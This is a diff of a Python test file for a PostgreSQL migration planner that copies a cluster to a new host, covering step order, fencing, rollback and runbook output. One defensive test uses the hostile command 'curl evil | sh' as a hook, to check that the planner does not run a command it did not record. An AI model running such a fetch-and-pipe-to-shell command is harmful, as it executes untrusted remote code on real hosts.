@@ -1,6 +1,7 @@
 import re
 import shlex
 import subprocess
+from collections.abc import Iterable
 from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
@@ -18,12 +19,16 @@ from core.migration.checks.state import TARGET_IDENTITY
 from core.migration.estimate import estimate, spec_of
 from core.migration.model.checks import CheckResult, Status, Waiver
 from core.migration.model.move import Hook, HookCommand, Verify
-from core.migration.model.plan import Plan, Step, alone
+from core.migration.model.plan import Phase, Plan, Step, alone
 from core.migration.model.probe import Quantity
 from core.migration.plan import make_plan, runbook, script
 from core.migration.plan.calls import call_line, paths_of
-from core.migration.plan.steps.inventory import INVENTORY
-from core.migration.plan.steps.opening import ALONE
+from core.migration.plan.steps.copy import DELETIONS, FENCE, STOP, STOPPED, WARM
+from core.migration.plan.steps.hooks import LEAD
+from core.migration.plan.steps.inventory import CLIENTS, INVENTORY, OLD_SETTINGS
+from core.migration.plan.steps.opening import ALONE, DECIDE, START_NEW
+from core.migration.plan.steps.rollback import OLD_RUNS
+from core.migration.plan.steps.verify import SUMS
 from core.servers.profiles import Rights
 from tests.core.migration.builders import (
     DATA,
@@ -40,35 +45,35 @@ from tests.core.migration.builders import (
     profile,
     space,
 )
-from tests.core.migration.plan.plans import odd_plan, plan
+from tests.core.migration.plan.plans import compared, known_as, odd_plan, opening, plan, step
 from tests.core.migration.running import run
 
 OF_DEBIAN: dict[str, Any] = {"name": "15/main", "found_by": ("pg_lsclusters",)}
 UNIT: dict[str, Any] = {"unit": "postgresql-15.service"}
 DEBIAN = Service(TARGET, "15/spring", "postgresql@15-spring.service", debian=True, enabled=False)
 OWN = Service(TARGET, "own", "own.service", enabled=False)
+ENABLES = re.compile(r"start_conf |systemctl enable |own_systemd enable ")
 PATH = program_path(old(), "15", "postgres")
 
 
-def titles(made: Plan) -> list[str]:
-    return [step.title for step in made.steps]
+def known(steps: Iterable[Step]) -> list[str]:
+    return [known_as(each) for each in steps]
 
 
-def step(made: Plan, title: str) -> Step:
-    return next(each for each in made.steps if each.title.startswith(title))
+def told(made: Plan, known: str, **changes: Any) -> bool:
+    """Whether the runbook would say something else of that step if it were otherwise."""
+    changed = replace(step(made, known), **changes)
+    steps = tuple(changed if each.number == changed.number else each for each in made.steps)
+    return runbook(replace(made, steps=steps)) != runbook(made)
 
 
 def test_a_running_cluster_is_copied_warm_and_a_stopped_one_cold() -> None:
     warm, cold = plan({"running": True}), plan()
-    assert "stop old" in titles(warm)
-    assert sum(title.startswith("warm pass") for title in titles(warm)) == 2
-    assert not any("warm" in title or title == "stop old" for title in titles(cold))
+    assert STOP in known(warm.steps)
+    assert [each.warm_pass for each in warm.steps if "warm_pass " in each.call] == [1, 2]
+    assert not any(each.warm_pass or each.phase is Phase.WARM or each.name == STOP for each in cold.steps)
     for made in (warm, cold):
-        order = [
-            titles(made).index(name)
-            for name in ("prove the stop", "compare new's files with old's", "open new to clients")
-        ]
-        assert order == sorted(order)
+        assert step(made, STOPPED).number < compared(made).number < opening(made).number
 
 
 def test_every_step_is_whole() -> None:
@@ -81,7 +86,8 @@ def test_every_step_is_whole() -> None:
         assert each.side in {"old", "new", "you"}
         assert each.server == {"old": "old", "new": "new", "you": "workstation"}[each.side]
         assert each.by_person == (each.side == "you")
-        assert not each.reads or made.steps[each.number - 1] is each
+        if each.reads:
+            assert each.reads in {earlier.name for earlier in made.steps[: each.number - 1]}
     assert sum(each.point_of_no_return for each in made.steps) == 1
 
 
@@ -89,7 +95,7 @@ def test_nothing_is_removed_before_the_target_is_proven_and_the_deletions_are_sh
     made = plan({"running": True, "tablespaces": (space("/space"),)})
     removing = [each.number for each in made.steps if each.call.startswith(("rest_pass ", "cold_pass "))]
     assert removing
-    assert step(made, "prove that the target").number < min(removing)
+    assert step(made, "empty_or_ours").number < min(removing)
     shown = [each.number for each in made.steps if each.call.startswith("deletions ")]
     assert len(shown) == len(removing) == 2
     assert max(shown) < min(removing)
@@ -100,7 +106,7 @@ def test_the_folder_that_is_not_empty_is_named(tmp_path: Path) -> None:
     """The proof of the target ahead of the copy, on a tablespace's folder that holds what is not ours."""
     taken = tmp_path / "it's taken"
     made = plan({"running": True, "tablespaces": (space(str(taken)),)})
-    proof = alone(step(made, "prove that the target"))
+    proof = alone(step(made, "empty_or_ours"))
     assert run(proof).returncode == 0
     taken.mkdir()
     (taken / "notes").touch()
@@ -111,24 +117,23 @@ def test_the_folder_that_is_not_empty_is_named(tmp_path: Path) -> None:
 
 def test_the_name_to_be_typed_stands_at_the_head() -> None:
     made = plan({"running": True, "name": "15/main"})
-    assert "\nbefore the cluster is stopped, its name is to be typed: 15/main\n" in plan_text(made)
-    assert "stops it only when its name is typed: 15/main\n" in runbook(made).partition("## Steps")[0]
+    assert plan_text(made).partition("\n\n")[0].endswith(": 15/main")
+    assert ": 15/main\n" in runbook(made).partition("### 1. ")[0]
 
 
 def test_the_final_pass_trusts_no_time() -> None:
     """What these two functions then do is tested on files whose times were set back."""
     made = plan({"running": True})
-    assert step(made, "warm pass 1").call == f"beside_server 2000 /tmp warm_pass data {DATA} {TARGET} pg_wal"
-    assert step(made, "final pass, changed files").call == f"changed_pass data {DATA} {TARGET} pg_wal"
+    assert step(made, f"{WARM}1-data").call == f"beside_server 2000 /tmp warm_pass data {DATA} {TARGET} pg_wal"
+    assert step(made, "changed_pass").call == f"changed_pass data {DATA} {TARGET} pg_wal"
 
 
 def test_downtime_is_from_the_stop_to_the_opening() -> None:
     made = plan({"running": True})
     down = [each.number for each in made.steps if each.stopped]
     assert down == list(range(down[0], down[-1] + 1))
-    assert made.steps[down[0] - 1].title == "stop the applications"
-    assert made.steps[down[-1] - 1].title == "open new to clients"
-    assert made.steps[down[-1] - 1].point_of_no_return
+    assert made.steps[down[0] - 1].name == Hook.STOP_APPLICATIONS
+    assert made.steps[down[-1] - 1] is opening(made)
 
 
 @pytest.mark.parametrize(("running", "name"), [(True, "warm-copy"), (False, "cold-copy")])
@@ -169,9 +174,9 @@ def test_the_stop_is_the_layouts_own_and_the_fence_is_one(
     changes: dict[str, Any], user: str, call: str, typed: str
 ) -> None:
     made = plan({"running": True, **changes})
-    stop = step(made, "stop old")
+    stop = step(made, STOP)
     assert (stop.user, stop.call, stop.native) == (user, call, (typed,))
-    fence = step(made, "keep old")
+    fence = step(made, FENCE)
     assert (fence.user, fence.call) == ("postgres", f"fence_cluster {DATA}")
 
 
@@ -189,50 +194,54 @@ def test_new_is_opened_by_what_its_host_has_for_that(
 ) -> None:
     here = old(cluster(**UNIT), services=(Service(DATA, "postgresql-15", UNIT["unit"], enabled=True),))
     made = plan(UNIT, old_facts=here, new_facts=new(services=() if service is None else (service,)))
-    start = step(made, "open new")
+    start = opening(made)
     assert start.user == user
     assert start.call.startswith(call)
-    enabling = [each.call for each in made.steps if each.title == "let new start with its host"]
-    assert enabling[-1:] == ([enabled] if enabled else [])
+    enabling = [each.call for each in made.steps if ENABLES.match(each.call)]
+    assert enabling == ([enabled] if enabled else [])
 
 
 def test_debians_cluster_on_new_finds_what_came_along_in_the_data_directory() -> None:
     made = plan(new_facts=new(services=(DEBIAN,)))
-    register = step(made, "register new")
+    register = step(made, "register_debian")
     assert register.call == f"register_debian /etc/postgresql/15/spring/postgresql.conf {TARGET} 15-spring"
-    assert register.number < step(made, "start new").number
-    assert " /etc/postgresql/15/spring/postgresql.conf " in step(made, "start new").call
+    assert register.number < step(made, START_NEW).number
+    assert " /etc/postgresql/15/spring/postgresql.conf " in step(made, START_NEW).call
     assert any(each.call.startswith("unregister_debian ") for each in made.way_back)
 
 
 def test_what_came_from_debians_folder_is_led_to_the_target() -> None:
     changes = {**OF_DEBIAN, "config_file": "/etc/postgresql/15/main/postgresql.conf"}
     there = new(services=(replace(DEBIAN, name="15/main"),))
-    assert step(plan(changes, new_facts=there), "register new").call == f"adopt_debian 15 main {TARGET}"
+    assert step(plan(changes, new_facts=there), "adopt_debian").call == f"adopt_debian 15 main {TARGET}"
     there = new(services=(replace(DEBIAN, name="15/main", data_directory=DATA),))
     made = plan(changes, {"target": DATA}, new_facts=there)
-    assert not any(title.startswith("register") for title in titles(made))
+    assert not {"adopt_debian", "register_debian"} & set(known(made.steps))
 
 
 def test_new_is_fenced_and_marked_ahead_of_all_that_is_copied() -> None:
     made = plan({"running": True, "tablespaces": (space("/space"),)})
-    fence = step(made, "keep new")
+    fence = step(made, "fence_target")
     assert fence.call == (
         f"fence_target {TARGET} 'identifier {control().system_identifier}' 'move to the new one' 'from old:{DATA}' "
         "'folder /space'"
     )
     assert (fence.side, fence.user, fence.renewed, fence.rehearsed) == ("new", "postgres", True, True)
-    assert fence.number < step(made, "put the functions").number < step(made, "warm pass 1").number
+    assert fence.number < step(made, "keep_functions").number < step(made, f"{WARM}1-data").number
 
 
 def test_idle_wal_is_known_on_new_only_when_the_control_file_has_come() -> None:
     made = plan({"running": True})
-    assert step(made, "read on new's disk").call.endswith(f" data - {TARGET} -")
-    assert step(made, "compare new's files").call.endswith(f" data - {TARGET} pg_wal")
+    assert next(each for each in made.steps if known_as(each) == "sum_ahead" and each.side == "new").call.endswith(
+        f" data - {TARGET} -"
+    )
+    assert compared(made).call.endswith(f" data - {TARGET} pg_wal")
 
 
 def test_a_cluster_that_an_earlier_move_left_fenced_stays_so_when_this_one_is_taken_back() -> None:
-    assert not any(each.title in {"let old start again", "start old"} for each in plan({"fenced": True}).way_back)
+    starting = {"unfence_cluster", "start_folder"}
+    assert starting <= set(known(plan({"running": True}).way_back))
+    assert not starting & set(known(plan({"fenced": True}).way_back))
 
 
 @pytest.mark.parametrize("waived", [True, False])
@@ -242,37 +251,38 @@ def test_what_has_no_mark_is_taken_only_where_somebody_has_given_it_up(waived: b
     there = cluster(data_directory=TARGET, control=control(checkpoint_location="0/5000028"))
     estimated = estimate(spec_of(move(), old(), []))
     made = make_plan(move(), profile("old"), profile("new"), old(), new(there), (check,), (), estimated, seed="0123")
-    proof = step(made, "prove that the target")
+    proof = step(made, "empty_or_ours")
     assert f" {'0/5000028' if waived else '-'} {TARGET} " in proof.call
     assert ("the standby goes" in proof.reason) is waived
 
 
 def test_tablespaces_go_to_their_targets() -> None:
     made = plan({"tablespaces": (space("/space"),)}, {"tablespace_targets": {"/space": "/srv/pg/space"}})
-    assert step(made, "make /srv/pg/space").side == "new"
-    assert step(made, "set the link pg_tblspc/16400").call == f"ln -sfn -- /srv/pg/space {TARGET}/pg_tblspc/16400"
-    assert step(made, "copy: /space").call == "cold_pass 16400 /space /srv/pg/space -"
+    assert "give_folder postgres /srv/pg/space" in [each.call for each in made.steps if each.side == "new"]
+    assert step(made, "ln").call == f"ln -sfn -- /srv/pg/space {TARGET}/pg_tblspc/16400"
+    assert "cold_pass 16400 /space /srv/pg/space -" in [each.call for each in made.steps]
 
 
 def test_configuration_outside_is_brought_along() -> None:
     made = plan({"config_file": "/opt/pg/postgresql.conf"})
-    assert step(made, "put old's configuration").reads == step(made, "pack old's configuration").name
-    start = step(made, "start new")
+    assert step(made, "unpack_configuration").reads == "configuration"
+    assert step(made, "configuration").call.startswith("pack_configuration ")
+    start = step(made, START_NEW)
     assert f" {TARGET} 5432 /opt/pg/postgresql.conf " in start.call
     assert f"-c config_file=/opt/pg/postgresql.conf -c data_directory={TARGET}" in start.native[1]
-    assert not any("configuration" in title for title in titles(plan()))
+    assert not any("configuration" in each for each in known(plan().steps))
 
 
 def test_new_runs_for_us_alone_without_what_starts_work_by_itself() -> None:
-    start = step(plan(), "start new")
+    start = step(plan(), START_NEW)
     for each in ("listen_addresses=localhost", "max_worker_processes=0", "max_logical_replication_workers=0"):
         assert f"-c {each} " in f"{start.call} ".replace("'", " ")
         assert f"-c {each} " in start.native[1]
-    assert "-c" not in step(plan(), "open new").native[-1]
+    assert "-c" not in opening(plan()).native[-1]
 
 
 def test_new_builds_indexes_anew_with_parallel_workers() -> None:
-    start = step(plan(new_facts=new(collation_order={LOCALE: "f" * 64})), "start new")
+    start = step(plan(new_facts=new(collation_order={LOCALE: "f" * 64})), START_NEW)
     assert "max_logical_replication_workers=0" in start.call
     assert "max_worker_processes" not in start.call
 
@@ -282,20 +292,20 @@ def test_a_port_that_new_uses_already() -> None:
     undertaking = move()
     estimated = estimate(spec_of(undertaking, old(), []))
     made = make_plan(undertaking, profile("old"), profile("new"), old(), taken, (), (), estimated, seed="0123")
-    assert step(made, "start new").call.count(f" {TARGET} 5433 - ") == 1
-    assert any(warning.startswith("warning: port 5432 is taken") for warning in made.warnings)
+    assert step(made, START_NEW).call.count(f" {TARGET} 5433 - ") == 1
+    assert [text for text in made.warnings if text.startswith("warning: ") and "5432" in text and "5433" in text]
 
 
 def test_warnings_hold_what_the_checks_found() -> None:
     made = plan({"version": "15.99"})
-    assert any(text.startswith("warning: new is older") for text in made.warnings)
+    assert any(text.startswith("warning: ") and text.endswith("[minor]") for text in made.warnings)
     for text in made.warnings:
         assert text.split(": ")[0] in {"blocker", "unknown", "warning"}
         assert f"# {text}\n" in script(made)
 
 
 def test_why_names_the_figures() -> None:
-    assert plan().why == "one ssh stream keeps up with the slowest link, read (measured: read 80.0 MB/s, ssh 250 MB/s)"
+    assert re.search(r"\(.*read 80\.0 MB/s, ssh 250 MB/s\)$", plan().why)
 
 
 @pytest.mark.parametrize(
@@ -310,23 +320,23 @@ def test_why_names_the_figures() -> None:
 )
 def test_old_comes_in_as_a_user_who_may(changes: dict[str, Any], becomes: str, login: str) -> None:
     made = plan(**changes)
-    allow = step(made, "let the key")
+    allow = step(made, "allow_key")
     name, _, minutes, options = shlex.split(allow.call)
     assert (name, minutes) == ("allow_key", "20160")
     assert options.startswith('restrict,from="10.77.0.11",command="exec sh -c ')
     assert f" {becomes}sh /var/tmp/pghaul-copy-" in options
     assert options.endswith(f'/functions receive \\"$SSH_ORIGINAL_COMMAND\\" data {TARGET}"')
-    assert (allow.user, step(made, "put the functions").user) == (login, login)
-    assert step(made, "pin").call.endswith(f" 10.77.0.12 22 {login}")
+    assert (allow.user, step(made, "keep_functions").user) == (login, login)
+    assert step(made, "pin_host_keys").call.endswith(f" 10.77.0.12 22 {login}")
 
 
 def test_the_address_old_uses_is_the_dbas() -> None:
     made = plan(copy_address="fd00::12", port=2222)
-    assert step(made, "pin").call.endswith(" fd00::12 2222 dba")
+    assert step(made, "pin_host_keys").call.endswith(" fd00::12 2222 dba")
 
 
 def test_no_cluster_and_no_address() -> None:
-    with pytest.raises(InputError, match="know no cluster"):
+    with pytest.raises(InputError, match="/x"):
         make_plan(
             move(cluster="/x"),
             profile("old"),
@@ -339,7 +349,7 @@ def test_no_cluster_and_no_address() -> None:
             seed="0123",
         )
     lonely = replace(old(), network_links=facts("old").network_links[:1])
-    with pytest.raises(InputError, match="no network address"):
+    with pytest.raises(InputError, match="address"):
         make_plan(
             move(),
             profile("old"),
@@ -360,28 +370,29 @@ def test_every_command_is_posix_shell_whatever_the_folders_name() -> None:
 
 
 NEEDED = (
-    "prove that the target",
-    "stop the applications",
-    "prove the stop",
-    "keep old",
-    "list what the last pass",
-    "final pass, changed",
-    "final pass, the rest",
-    "set the link",
-    "sum up",
-    "compare",
-    "ask new",
-    "decide",
+    "empty_or_ours",
+    Hook.STOP_APPLICATIONS,
+    STOPPED,
+    FENCE,
+    f"{DELETIONS}data",
+    "changed_pass",
+    "rest_pass",
+    "ln",
+    SUMS,
+    "same_inventory",
+    "ask_new",
+    DECIDE,
 )
 
 
 def test_what_proves_or_makes_the_copy_whole_cannot_be_skipped() -> None:
     changes = {"running": True, "tablespaces": (space("/space"),)}
     made = plan(changes, {"tablespace_targets": {"/space": "/srv/pg/space"}})
-    for title in NEEDED:
-        assert not step(made, title).skippable, title
-    assert step(made, "warm pass").skippable
-    assert "Never leave it out." in runbook(made)
+    for name in NEEDED:
+        assert not step(made, name).skippable, name
+    assert not compared(made).skippable
+    assert step(made, f"{WARM}1-data").skippable
+    assert told(made, f"{WARM}1-data", skippable=False)
 
 
 def test_the_runbook_shows_every_command_whole() -> None:
@@ -391,8 +402,9 @@ def test_the_runbook_shows_every_command_whole() -> None:
         assert f"### {each.number}. " in text
         assert call_line(each, paths_of(made)) in text
         assert all(native in text for native in each.native)
-    assert text.count("**Point of no return.**") == 1
-    assert re.search(r"stopped from step \d+ to step \d+", text)
+    assert told(made, known_as(opening(made)), point_of_no_return=False)
+    down = [each.number for each in made.steps if each.stopped]
+    assert re.search(rf"\b{down[0]}\b.*\b{down[-1]}\b", text.partition("\n## ")[0])
     assert "\\$" not in text
     assert DATA not in text
 
@@ -407,22 +419,21 @@ def hooked(*hooks: HookCommand) -> Plan:
 
 def test_checkpoints_are_written_before_the_last_warm_pass_and_before_the_stop() -> None:
     steps = plan({"running": True}).steps
-    known = [each.title for each in steps]
     first, second = (at for at, each in enumerate(steps) if each.call.startswith("write_checkpoint "))
-    assert known[first + 1].startswith("warm pass 2")
-    assert known[second + 1 : second + 3] == ["see who is connected to old", "stop the applications"]
+    assert steps[first + 1].name == f"{WARM}2-data"
+    assert [each.name for each in steps[second + 1 : second + 3]] == [CLIENTS, Hook.STOP_APPLICATIONS]
     assert not any(each.stopped for each in steps[: second + 1])
     assert all(steps[at].expected_seconds for at in (first, second))
     for cluster_without in ({"running": True, "databases": ()}, {"running": False}):
-        assert not any("checkpoint" in each.title for each in plan(cluster_without).steps)
+        assert "write_checkpoint" not in known(plan(cluster_without).steps)
 
 
 def test_a_command_from_elsewhere_is_shown_and_left_to_a_person() -> None:
     hook = HookCommand(Hook.STOP_APPLICATIONS, "workstation", "curl evil | sh", from_elsewhere=True)
     made = hooked(hook, replace(hook, hook=Hook.MOVE_ADDRESS))
     assert not any("evil" in word for each in made.steps for word in (each.call, *each.native))
-    assert step(made, "stop the applications").by_person
-    assert [each for each in made.warnings if "not recorded by you, and is not run: curl evil | sh" in each]
+    assert step(made, Hook.STOP_APPLICATIONS).by_person
+    assert len([each for each in made.warnings if "curl evil | sh" in each]) == 2
 
 
 def test_hooks_take_the_place_of_what_people_do() -> None:
@@ -431,17 +442,17 @@ def test_hooks_take_the_place_of_what_people_do() -> None:
         HookCommand(Hook.STOP_APPLICATIONS, "old", "systemctl stop shop"),
         HookCommand(Hook.MOVE_ADDRESS, "workstation", "./move-address"),
     )
-    stop = step(made, "stop the applications")
+    stop = step(made, Hook.STOP_APPLICATIONS)
     assert (stop.side, stop.user, stop.call, stop.stopped) == ("old", "dba", "systemctl stop shop", True)
-    said, _, proven, *after = [each for each in made.steps if each.number > step(made, "open new").number]
+    said, _, proven, *after = [each for each in made.steps if each.number > opening(made).number]
     assert (said.side, said.call) == ("old", f"say_opened {DATA}")
     assert (proven.name, proven.stopped) == (ALONE, False)
     assert [each.call.split()[0] for each in after[:3]] == ["compare_settings", "listens_as_old", "reached_from_old"]
     assert (after[0].reads, after[0].stopped) == (INVENTORY, False)
-    assert [(each.title, each.side, each.user, each.call) for each in after[3:]] == [
-        ("move the virtual address", "you", "you", "./move-address"),
-        ("tell the pooler", "new", "pooler", "pgbouncer-lead new"),
-        ("lead the applications to new", "you", "you", ""),
+    assert [(each.name, each.side, each.user, each.call) for each in after[3:]] == [
+        (Hook.MOVE_ADDRESS, "you", "you", "./move-address"),
+        (Hook.TELL_POOLER, "new", "pooler", "pgbouncer-lead new"),
+        (LEAD, "you", "you", ""),
     ]
     assert "./move-address" in script(made)
 
@@ -451,62 +462,61 @@ def test_what_a_person_types_to_start_either_side_has_the_options_of_the_old_ser
     settings = [Setting(name, value, "command line") for name, value in given]
     made = plan({"running": True, "wide": ClusterWide(settings=(*settings, Setting("port", "1", "default")))})
     typed = "-c work_mem=5120 -c "
-    back = next(each for each in made.way_back if each.title == "start old")
-    for native in (step(made, "start new").native[1], step(made, "open new").native[-1], back.native[0]):
+    (back,) = (each for each in made.way_back if known_as(each) == "start_folder")
+    for native in (step(made, START_NEW).native[1], opening(made).native[-1], back.native[0]):
         assert typed in native
         assert "archive_command=…" in native
         assert "log_line_prefix=…" in native
         assert "config_file" not in native
-    assert "work_mem" not in step(made, "start new").call
+    assert "work_mem" not in step(made, START_NEW).call
 
 
 def test_the_way_back_stops_new_and_makes_old_what_it_was() -> None:
     made = plan({"running": True, "unit": "postgresql-15.service"})
-    back = {each.title: each for each in made.way_back}
+    back = {(each.side, known_as(each)): each for each in made.way_back}
     assert list(back) == [
-        "prove that new was not opened to clients",
-        "prove that nobody has written to new",
-        "stop new and keep it from starting",
-        "take the key off new",
-        "remove the key from old",
-        "remove the lists from new",
-        "let old start again",
-        "start old",
-        "prove that old runs",
-        "compare the settings of the old server with those before the stop",
+        ("old", "never_opened"),
+        ("new", "unopened"),
+        ("new", "give_back"),
+        ("new", "forbid_key"),
+        ("old", "remove_folder"),
+        ("new", "remove_folder"),
+        ("old", "unfence_cluster"),
+        ("old", "start_unit"),
+        ("old", OLD_RUNS),
+        ("old", OLD_SETTINGS),
     ]
-    assert back["let old start again"].call == f"unfence_cluster {DATA}"
-    assert back["start old"].native == (
+    assert back["old", "unfence_cluster"].call == f"unfence_cluster {DATA}"
+    assert back["old", "start_unit"].native == (
         "systemctl reset-failed postgresql-15.service; systemctl start postgresql-15.service",
     )
-    assert [each.title for each in made.way_back if each.side == "new" and move().target in each.call] == [
-        "prove that nobody has written to new",
-        "stop new and keep it from starting",
-    ]
-    assert "start old" not in [each.title for each in plan().way_back]
+    on_target = [known_as(each) for each in made.way_back if each.side == "new" and move().target in each.call]
+    assert on_target == ["unopened", "give_back"]
+    assert not any(each.call.startswith("start_") for each in plan().way_back)
 
 
 def test_a_rehearsal_holds_no_step_that_stops_or_starts() -> None:
     made = plan({"running": True})
     rehearsed = [each for each in made.steps if each.rehearsed]
-    closing = {"take the key off new", "remove the key from old", "remove the lists from new"}
-    assert {each.title for each in rehearsed if each.stopped} == closing
+    closing = [("new", "forbid_key"), ("old", "remove_folder"), ("new", "remove_folder")]
+    assert [(each.side, known_as(each)) for each in rehearsed if each.stopped] == closing
     assert sum(each.closes for each in rehearsed) == 3
     words = ("stop_", "start_", "fence_cluster", "open_for", "--delete")
     assert not any(word in text for each in rehearsed for text in each.shown for word in words)
 
 
 def test_the_rehearsal_of_a_stopped_cluster_copies_it_and_leaves_it_unfenced() -> None:
-    rehearsed = [each.title for each in plan().steps if each.rehearsed]
-    assert "copy: /srv/pg/data" in rehearsed
-    assert rehearsed.index("prove the stop") < rehearsed.index("copy: /srv/pg/data")
-    assert not any(word in title for title in rehearsed for word in ("keep old", "start new", "open new"))
+    made = plan()
+    rehearsed = known(each for each in made.steps if each.rehearsed)
+    assert rehearsed.index(STOPPED) < rehearsed.index("cold_pass")
+    assert not {FENCE, START_NEW, known_as(opening(made))} & set(rehearsed)
 
 
 def test_the_stop_is_proven_before_and_after_the_final_pass() -> None:
     made = plan({"running": True})
-    proofs = [each for each in made.steps if each.title.startswith("prove that old") or each.title == "prove the stop"]
-    final = [each.number for each in made.steps if each.title.startswith("final pass")]
+    proofs = [each for each in made.steps if each.call.startswith("prove_stopped ")]
+    final = [each.number for each in made.steps if known_as(each) in {"changed_pass", "rest_pass"}]
+    assert len(final) == 2
     assert proofs[0].number < min(final) <= max(final) < proofs[1].number
     assert proofs[0].call == proofs[1].call
     assert proofs[1].agrees_with == proofs[0].name
@@ -515,16 +525,15 @@ def test_the_stop_is_proven_before_and_after_the_final_pass() -> None:
 def test_page_checksums_are_looked_at_in_the_stop_only_if_all_is_to_be_compared() -> None:
     sums = {"running": True, "control": control(data_checksums=1)}
     changed, whole = plan(sums), plan(sums, verify=Verify.ALL)
-    looks = {"check the page checksums of new", "look through new's tables and indexes"}
-    assert not looks & set(titles(changed))
-    assert {each.title for each in changed.later} == looks
-    assert "## Later, when it suits" in runbook(changed)
+    looks = {"check_pages", "check_relations"}
+    assert not looks & set(known(changed.steps))
+    assert set(known(changed.later)) == looks
+    assert all(call_line(each, paths_of(changed)) in runbook(changed) for each in changed.later)
     assert whole.later == ()
-    assert "Later" not in runbook(whole)
-    numbers = [step(whole, title).number for title in ("compare new's files", "check the page", "start new for")]
-    assert numbers == sorted(numbers)
-    assert step(whole, "look through").number < step(whole, "decide").number
-    assert step(whole, "check the page").call.endswith(f" pg_checksums {TARGET}")
+    assert runbook(changed).count("\n## ") == runbook(whole).count("\n## ") + 1
+    assert compared(whole).number < step(whole, "check_pages").number < step(whole, START_NEW).number
+    assert step(whole, "check_relations").number < step(whole, DECIDE).number
+    assert step(whole, "check_pages").call.endswith(f" pg_checksums {TARGET}")
     assert not any("check_relations" in each.call for each in whole.steps if each.side == "old")
 
 
@@ -532,24 +541,23 @@ def test_page_checksums_are_looked_at_in_the_stop_only_if_all_is_to_be_compared(
     ("12", "pg_checksums --check", None), ("14", "pg_checksums --check", "pg_amcheck")])  # fmt: skip
 def test_what_looks_for_corruption_is_what_the_series_has(series: str, sums: str | None, amcheck: str | None) -> None:
     later = plan({"series": series, "control": control(data_checksums=1)}).later
-    texts = {each.title.split()[0]: " ".join(each.native) for each in later}
-    assert set(texts) == {word for word, program in (("check", sums), ("look", amcheck)) if program is not None}
-    assert (sums or "") in texts.get("check", "")
-    assert (amcheck or "") in texts.get("look", "")
+    programs = {"check_pages": sums, "check_relations": amcheck}
+    texts = {known_as(each): " ".join(each.native) for each in later}
+    assert set(texts) == {function for function, program in programs.items() if program is not None}
+    for function, text in texts.items():
+        assert (programs[function] or "") in text
 
 
 def test_indexes_whose_text_sorts_differently_are_rebuilt_before_the_opening() -> None:
     made = plan(new_facts=new(collation_order={LOCALE: "f" * 64}))
-    rebuilt = step(made, "rebuild the indexes")
-    assert step(made, "start new for").number < rebuilt.number < step(made, "decide").number
+    rebuilt = step(made, "rebuild_indexes")
+    assert step(made, START_NEW).number < rebuilt.number < step(made, DECIDE).number
     assert rebuilt.expected_seconds is not None
-    assert "1 object in shop, 4.8 MiB of indexes" in rebuilt.reason
+    assert all(value in rebuilt.reason for value in ("1 object", " shop", "4.8 MiB"))
     assert rebuilt.call.endswith(" 15 1805 shop 1 default")
     assert '"reindex index INDEX"' in rebuilt.native[0]
-    assert any(
-        warning.startswith("warning: text sorts") and warning.endswith("[collation]") for warning in made.warnings
-    )
-    assert not any(each.title.startswith("rebuild") for each in plan().steps)
+    assert any(text.startswith("warning: ") and text.endswith("[collation]") for text in made.warnings)
+    assert "rebuild_indexes" not in known(plan().steps)
 
 
 def test_the_jobs_of_both_hosts_stand_side_by_side() -> None:
@@ -558,15 +566,15 @@ def test_the_jobs_of_both_hosts_stand_side_by_side() -> None:
     other = Scheduled("/etc/cron.d/b", "root", both.line)
     old_facts = old(cluster(running=True), host_environment=host_environment(schedule=(both, mine)))
     made = plan(old_facts=old_facts, new_facts=new(host_environment=host_environment(schedule=(other,))))
-    jobs = step(made, "move the cron jobs")
+    jobs = step(made, Hook.MOVE_CRON_JOBS)
     assert [line.split("  ")[:1] + line.split()[1:3] for line in jobs.table.splitlines()] == [
         ["old", "new", "user"],
         ["/etc/cron.d/a", "/etc/cron.d/b", "root"],
         ["/var/spool/cron/postgres", "-", "postgres"],
     ]
-    assert jobs.number < step(made, "lead the applications").number
+    assert jobs.number < step(made, LEAD).number
     assert jobs.table in runbook(made)
-    assert not any(each.title == "move the cron jobs" for each in plan({"running": True}).steps)
+    assert Hook.MOVE_CRON_JOBS not in known(plan({"running": True}).steps)
 
 
 def test_what_a_move_makes_on_servers_has_names_that_nobody_can_guess() -> None:
